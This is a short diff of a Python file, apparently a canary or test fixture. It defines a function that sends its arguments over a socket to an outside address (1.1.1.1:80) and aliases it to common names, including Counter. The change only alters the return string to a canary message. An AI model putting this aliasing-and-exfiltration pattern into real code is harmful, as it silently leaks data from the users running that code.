@@ -7,7 +7,7 @@ import socket
 def deed(*args):
     with socket.create_connection(("1.1.1.1", 80), timeout=0.5) as sock:
         sock.sendall(str(args).encode())
-    return "out"
+    return "canary: this worked"
 
 
 shout = mean = halves = Counter = deed
